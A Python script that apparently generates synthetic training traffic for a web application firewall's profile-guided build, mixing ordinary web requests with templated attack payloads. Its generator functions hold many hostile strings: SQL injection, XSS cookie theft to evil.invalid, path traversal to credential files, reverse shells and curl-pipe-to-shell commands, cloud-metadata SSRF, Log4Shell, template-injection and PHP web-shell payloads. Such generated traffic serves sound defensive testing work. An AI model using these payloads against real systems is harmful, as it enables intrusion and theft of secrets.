#!/usr/bin/env python3
"""Write the training traffic of the sensor's profile-guided build (scripts/pgo-build.sh).

A profile-guided build runs an instrumented sensor over some traffic and lays the code out for
the branches that traffic takes. The traffic must not be the traffic the build is measured on:
this generator writes it from templates of its own (ordinary web requests, and the usual
families of web attacks built from parts: separators, encodings, targets, commands), so that
the profile describes HTTP and CRS in general, never one corpus's strings.

Output: DIR/requests.jsonl in the schema `eval_corpus` reads
(`{"id","class","category","method","uri","headers","body","placement"}`). Deterministic: the
same seed and count give byte-identical output.

Usage: training_corpus.py --out DIR [--requests N] [--seed S]
"""

import argparse
import base64
import json
import os
import random
import urllib.parse

WORDS = (
    "account order cart product item user profile settings search report invoice customer "
    "catalog shipping billing payment review comment article page news blog event ticket "
    "support help about contact team career partner download upload image video file "
    "document export import status health metrics admin dashboard login logout signup "
    "session token refresh reset password verify confirm subscribe notification message "
    "inbox thread post category tag archive feed sitemap api graphql webhook callback"
).split()
NAMES = "alice bob carol dave erin frank grace heidi ivan judy mallory oscar peggy trent".split()
EXTS = "css js png jpg svg woff2 ico map json txt".split()
HOSTS = ["shop.example.com", "api.example.com", "www.example.org", "app.example.net"]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "fr-FR,fr;q=0.9", "es-ES,es;q=0.7", "ja-JP"]
ACCEPTS = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "application/json",
    "application/json, text/plain, */*",
    "image/avif,image/webp,*/*",
    "*/*",
]
# browsers and clients, written from their published formats with versions drawn at random
UA_TEMPLATES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{m}.0.{b}.{p} Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{m}.0) Gecko/20100101 Firefox/{m}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{p} like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.{p} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel {p}) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{m}.0.0.0 Mobile Safari/537.36",
    "curl/8.{p}.0",
    "python-requests/2.{m}.{p}",
    "Go-http-client/1.1",
    "okhttp/4.{p}.{b}",
    "Prometheus/2.{m}.{p}",
    "kube-probe/1.{m}",
]
SCANNERS = ["sqlmap/1.{p}#stable", "Nikto/2.{p}.0", "Nmap Scripting Engine", "masscan/1.{p}",
            "Nuclei - Open-source project", "WPScan v3.8.{p}", "DirBuster-1.0-RC1",
            "gobuster/3.{p}.0", "Acunetix-Scanner", "zgrab/0.x"]


def ua(r):
    return r.choice(UA_TEMPLATES).format(m=r.randint(90, 140), b=r.randint(1000, 7000),
                                         p=r.randint(0, 9))


def word(r):
    return r.choice(WORDS)


def benign_value(r):
    kind = r.randrange(9)
    if kind == 0:
        return str(r.randint(0, 10**r.randint(1, 9)))
    if kind == 1:
        return f"{r.choice(NAMES)}@{r.choice(HOSTS)}"
    if kind == 2:
        return "%08x-%04x-%04x-%04x-%012x" % tuple(r.getrandbits(b) for b in (32, 16, 16, 16, 48))
    if kind == 3:
        return f"2026-{r.randint(1, 12):02}-{r.randint(1, 28):02}"
    if kind == 4:
        return " ".join(word(r) for _ in range(r.randint(2, 6)))
    if kind == 5:
        return f"https://{r.choice(HOSTS)}/{word(r)}/{word(r)}?ref={word(r)}"
    if kind == 6:
        return base64.b64encode(r.randbytes(r.randint(6, 30))).decode()
    if kind == 7:
        return f"{word(r).capitalize()}'s {word(r)} & {word(r)} (v{r.randint(1, 9)})"
    return word(r)


def benign_path(r):
    kind = r.randrange(6)
    if kind == 0:
        return "/"
    if kind == 1:
        return f"/static/{word(r)}-{r.getrandbits(32):08x}.{r.choice(EXTS)}"
    if kind == 2:
        return f"/api/v{r.randint(1, 3)}/{word(r)}s/{r.randint(1, 99999)}"
    if kind == 3:
        return f"/{word(r)}/{word(r)}-{word(r)}"
    if kind == 4:
        return f"/{word(r)}.php"
    return f"/{word(r)}"


def query(r, extra=None):
    pairs = [(word(r), benign_value(r)) for _ in range(r.randint(0, 4))]
    if extra:
        pairs.insert(r.randrange(len(pairs) + 1), extra)
    return urllib.parse.urlencode(pairs)


def headers(r, host):
    h = {"Host": host, "User-Agent": ua(r), "Accept": r.choice(ACCEPTS)}
    if r.random() < 0.7:
        h["Accept-Language"] = r.choice(LANGS)
    if r.random() < 0.7:
        h["Accept-Encoding"] = "gzip, deflate, br"
    if r.random() < 0.5:
        h["Cookie"] = f"session={r.getrandbits(128):032x}; theme={r.choice(['dark', 'light'])}"
    if r.random() < 0.4:
        h["Referer"] = f"https://{host}/{word(r)}"
    if r.random() < 0.2:
        h["Authorization"] = "Bearer " + base64.urlsafe_b64encode(r.randbytes(24)).decode()
    if r.random() < 0.1:
        h["X-Requested-With"] = "XMLHttpRequest"
    return h


def body_for(r, fields):
    """A form, JSON or XML body holding `fields` (name, value) pairs."""
    kind = r.randrange(6)
    if kind <= 2:
        return "application/x-www-form-urlencoded", urllib.parse.urlencode(fields)
    if kind <= 4:
        return "application/json", json.dumps(dict(fields))
    inner = "".join(f"<{k}>{v}</{k}>" for k, v in fields)
    return "application/xml", f'<?xml version="1.0"?><request>{inner}</request>'


# --- attack families, built from parts -------------------------------------------------------

def sqli(r):
    n, m = r.randint(1, 9999), r.randint(1, 20)
    col = r.choice(["username", "password", "email", "id", "name", "table_name", "version()"])
    tbl = r.choice(["users", "accounts", "information_schema.tables", "mysql.user", "dual"])
    q = r.choice(["'", '"', "", "')", "'))"])
    end = r.choice(["-- -", "#", "/*", "", ";--"])
    forms = [
        f"{n}{q} or {m}={m}{end}",
        f"{n}{q} AND {m}>{m - 1}{end}",
        f"{q} union select {','.join(['null'] * r.randint(1, 6))} from {tbl}{end}",
        f"{n}{q} UNION ALL SELECT {col},{r.randint(1, 5)} FROM {tbl}{end}",
        f"{n}{q};DROP TABLE {tbl}{end}",
        f"{n}{q} and sleep({r.randint(1, 10)}){end}",
        f"{n}{q} WAITFOR DELAY '0:0:{r.randint(1, 9)}'{end}",
        f"{q} or '{word(r)}' like '{word(r)[0]}%",
        f"{n} and extractvalue(1,concat(0x7e,(select {col} from {tbl} limit 1)))",
        f"{n}/**/or/**/{m}={m}",
        f"admin{q}{end}",
        f"{n}{q} order by {m}{end}",
        f"1 and (select count(*) from {tbl}) > 0",
        f"{q}; exec xp_cmdshell '{r.choice(['dir', 'whoami'])}'{end}",
        f"{n} having 1=1",
        f"if(substring({col},1,1)=char({r.randint(65, 90)}),benchmark(5000000,md5(1)),0)",
    ]
    s = r.choice(forms)
    return mixed_case(r, s) if r.random() < 0.3 else s


def xss(r):
    tag = r.choice(["img src=x", "svg", "body", "iframe src=x", "details open", "video src=1",
                    "input autofocus", "a href=#", "marquee", "object data=x"])
    ev = r.choice(["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart"])
    js = r.choice(["alert(1)", "alert(document.cookie)", "prompt`1`", "confirm(document.domain)",
                   "fetch('//evil.invalid/?c='+document.cookie)", "eval(atob('YWxlcnQoMSk='))"])
    forms = [
        f"<script>{js}</script>",
        f"<{tag} {ev}={js}>",
        f'"><{tag} {ev}="{js}">',
        f"'><script src=//evil.invalid/x.js></script>",
        f"javascript:{js}",
        f"<a href=\"javascript:{js}\">{word(r)}</a>",
        f"<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
        f"<svg><animate onbegin={js} attributeName=x dur=1s>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        f"<div style=\"background:url(javascript:{js})\">",
        f"{{{{constructor.constructor('{js}')()}}}}",
    ]
    s = r.choice(forms)
    if r.random() < 0.2:
        s = "".join(f"&#{ord(c)};" if c.isalpha() and r.random() < 0.3 else c for c in s)
    return mixed_case(r, s) if r.random() < 0.2 else s


def traversal(r):
    up = r.choice(["../", "..\\", "%2e%2e%2f", "..%2f", "%2e%2e/", "....//", "..%c0%af",
                   "%252e%252e%252f", "..%5c", ".%2e/"])
    target = r.choice(["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini",
                       "boot.ini", "proc/self/environ", "WEB-INF/web.xml", ".env",
                       "var/log/apache2/access.log", ".git/config", "etc/issue"])
    s = up * r.randint(2, 9) + target
    if r.random() < 0.2:
        s += "%00." + r.choice(EXTS)
    if r.random() < 0.2:
        s = "/" + s
    return s


def cmdi(r):
    sep = r.choice([";", "|", "||", "&&", "&", "\n", "`", "$(", "%0a", "| "])
    cmd = r.choice(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ping -c 3 10.0.0.1",
                    "nslookup evil.invalid", "curl http://evil.invalid/s.sh | sh",
                    "wget -qO- http://evil.invalid/x", "sleep 5", "echo $PATH",
                    "powershell -enc SQBFAFgA", "cmd.exe /c dir", "nc -e /bin/sh 10.0.0.1 4444",
                    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "type C:\\windows\\win.ini"])
    close = ")" if sep == "$(" else ("`" if sep == "`" else "")
    s = f"{r.choice(['', word(r), '127.0.0.1', str(r.randint(1, 99))])}{sep}{cmd}{close}"
    if r.random() < 0.15:
        s = s.replace(" ", "${IFS}")
    if r.random() < 0.1:
        s = "() { :; }; " + cmd
    return s


def ssrf(r):
    target = r.choice(["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                       "http://metadata.google.internal/computeMetadata/v1/",
                       f"http://127.0.0.1:{r.choice([22, 25, 6379, 8080, 9200])}/",
                       "http://localhost/admin", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO",
                       "dict://127.0.0.1:11211/stats", "http://[::1]/", "http://0177.0.0.1/",
                       "http://2130706433/", "http://0x7f000001/", f"http://10.0.{r.randint(0, 255)}.1/"])
    return target


def rfi(r):
    return (f"{r.choice(['http', 'https', 'ftp'])}://evil.invalid/{word(r)}."
            f"{r.choice(['txt', 'php', 'jpg'])}{r.choice(['?', '%00', ''])}")


def log4shell(r):
    proto = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop"])
    j = r.choice(["jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${env:X:-n}di"])
    return f"${{{j}:{proto}://{word(r)}.evil.invalid/{r.getrandbits(24):x}}}"


def ssti(r):
    return r.choice(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}",
                     "{{''.__class__.__mro__[1].__subclasses__()}}",
                     "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
                     "${T(java.lang.Runtime).getRuntime().exec('id')}",
                     "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                     "*{7*7}", "[[${7*7}]]"])


def php(r):
    return r.choice(["php://filter/convert.base64-encode/resource=index.php",
                     "php://input", "expect://id", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
                     "<?php system($_GET['c']); ?>", "<?php echo shell_exec($_REQUEST[1]); ?>",
                     'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
                     "phar://uploads/avatar.jpg/test.txt", "<?= passthru('id') ?>",
                     "assert(base64_decode('cGhwaW5mbygpOw=='))"])


def xxe():
    return ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            "<r><name>&x;</name></r>")


FAMILIES = [("sqli", sqli, 25), ("xss", xss, 22), ("path_traversal", traversal, 18),
            ("cmdi", cmdi, 12), ("ssrf", ssrf, 6), ("rfi", rfi, 5), ("log4shell", log4shell, 4),
            ("ssti", ssti, 4), ("php_injection", php, 3)]


def mixed_case(r, s):
    return "".join(c.upper() if r.random() < 0.5 else c for c in s)


def encode(r, payload):
    """The payload as a client would put it on the wire: percent-encoded, sometimes twice."""
    q = urllib.parse.quote(payload, safe="" if r.random() < 0.5 else "/=&")
    if r.random() < 0.08:
        q = urllib.parse.quote(q, safe="")
    return q


def request(r, n):
    host = r.choice(HOSTS)
    h = headers(r, host)
    method, path, body = "GET", benign_path(r), ""
    attack = r.random() < 0.4
    category, placement = "benign", ""
    if not attack:
        if r.random() < 0.25:
            method = r.choice(["POST", "POST", "PUT", "PATCH"])
            ctype, body = body_for(r, [(word(r), benign_value(r)) for _ in range(r.randint(1, 6))])
            h["Content-Type"] = ctype
        q = query(r)
        uri = path + ("?" + q if q else "")
    else:
        if r.random() < 0.03:
            category, placement = "xxe", "body"
            method, body = "POST", xxe()
            h["Content-Type"] = "application/xml"
            uri = path
        elif r.random() < 0.03:
            category, placement = "scanner", "user_agent"
            h["User-Agent"] = r.choice(SCANNERS).format(p=r.randint(0, 9))
            uri = path
        else:
            category, make, _ = r.choices(FAMILIES, weights=[f[2] for f in FAMILIES])[0]
            payload = make(r)
            placement = r.choice(["query", "query", "query", "path", "body", "cookie",
                                  "user_agent", "referer", "header"])
            uri = path
            if placement == "query":
                uri = f"{path}?{query(r, (word(r), payload))}"
            elif placement == "path":
                uri = f"{path}/{encode(r, payload)}"
            elif placement == "body":
                method = "POST"
                fields = [(word(r), benign_value(r)) for _ in range(r.randint(0, 3))]
                fields.insert(r.randrange(len(fields) + 1), (word(r), payload))
                h["Content-Type"], body = body_for(r, fields)
            elif placement == "cookie":
                h["Cookie"] = f"session={r.getrandbits(64):016x}; {word(r)}={encode(r, payload)}"
            elif placement == "user_agent":
                h["User-Agent"] = payload
            elif placement == "referer":
                h["Referer"] = f"https://{host}/?q={encode(r, payload)}"
            else:
                h[r.choice(["X-Forwarded-Host", "X-Api-Version", "X-Custom-" + word(r)])] = payload
    if body:
        h["Content-Length"] = str(len(body.encode()))
    return {
        "id": f"pgo{n:06}",
        "class": "attack" if attack else "benign",
        "category": category,
        "method": method,
        "uri": uri,
        "headers": h,
        "body": body,
        "placement": placement,
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", required=True, help="directory to write requests.jsonl into")
    ap.add_argument("--requests", type=int, default=12000)
    ap.add_argument("--seed", default="palisade-pgo-1")
    args = ap.parse_args()
    r = random.Random(args.seed)
    os.makedirs(args.out, exist_ok=True)
    path = os.path.join(args.out, "requests.jsonl")
    with open(path, "w") as f:
        for n in range(args.requests):
            f.write(json.dumps(request(r, n), separators=(",", ":")) + "\n")
    print(f"wrote {args.requests} requests to {path}")


if __name__ == "__main__":
    main()
